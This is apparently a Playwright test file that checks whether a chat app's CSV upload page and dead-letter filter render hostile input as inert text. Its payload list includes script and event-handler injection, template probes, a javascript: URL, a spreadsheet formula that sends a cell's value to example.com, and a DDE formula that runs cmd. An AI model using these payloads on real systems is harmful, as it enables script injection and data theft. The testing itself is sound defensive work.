"""What stands in a file is text on every page of its upload, whatever it is made for."""

import csv
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest
from playwright.sync_api import expect

from tests.support.harness import number

from .conftest import Visit
from .stack import HOSTILE, RTL

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = pytest.mark.browser

CELLS = (
    HOSTILE,
    "</td></table><script>document.title='struck'</script>",
    "' onmouseover='document.title=`struck`",
    "{{7*7}} {% raw %} ${7*7} <%= 7*7 %>",
    '=HYPERLINK("https://example.com?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "javascript:document.title='struck'",
    RTL,
)


@pytest.fixture
def tab(visit: Visit) -> "Page":
    return visit("upload")


def check(tab: "Page", folder: Path, *rows: tuple[str, ...]) -> None:
    """Chooses a file of these rows and has it checked."""
    path = folder / "'><img src=x>.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    tab.get_by_label("CSV file").set_input_files(path)
    tab.get_by_label("Sender").select_option("support")
    tab.get_by_label("Text of all rows").fill("Hello {name}")
    tab.get_by_role("button", name="Check the file").click()


def assert_nothing_runs(tab: "Page") -> None:
    live = "main script, main img, main [onmouseover], main a[href^=javascript], main a[href*=example]"
    expect(tab.locator(live)).to_have_count(0)
    assert tab.title() == "Upload CSV · outbound-chat"


@pytest.mark.parametrize("cell", CELLS)
def test_heads_and_cells_are_text(tab: "Page", tmp_path: Path, cell: str) -> None:
    check(tab, tmp_path, ("to", "name", cell), (number(80), cell, cell))
    alert = tab.get_by_role("alert")
    expect(alert).to_be_visible()
    assert f'unknown columns: "{cell[:40]}' in (alert.text_content() or "")
    assert_nothing_runs(tab)

    tab.get_by_label("Ignore other columns").check()
    tab.get_by_role("button", name="Check the file").click()
    preview = tab.get_by_role("table", name="Messages").locator("td.text")
    expect(preview).to_be_visible()
    assert preview.text_content() == f"Hello {cell}"
    assert_nothing_runs(tab)


@pytest.mark.parametrize("name", ["tenant", "sender", "code"])
def test_what_stands_in_the_address_is_text(visit: Visit, name: str) -> None:
    """It is what a list is filtered by, so it is shown in the filter."""
    tab = visit(f"dead?{name}={quote(HOSTILE)}")
    expect(tab.get_by_label(name.capitalize(), exact=True)).to_have_value(HOSTILE)
    assert tab.title() == "Dead letters · outbound-chat"
    expect(tab.locator("main script, main img")).to_have_count(0)


def test_a_hostile_tenant_is_refused_as_text(tab: "Page", tmp_path: Path) -> None:
    tab.get_by_label("Tenant").fill(HOSTILE)
    check(tab, tmp_path, ("to", "name"), (number(80), "Ana"))
    expect(tab.get_by_role("alert")).to_contain_text("tenant")
    expect(tab.get_by_label("Tenant")).to_have_value(HOSTILE)
    assert_nothing_runs(tab)
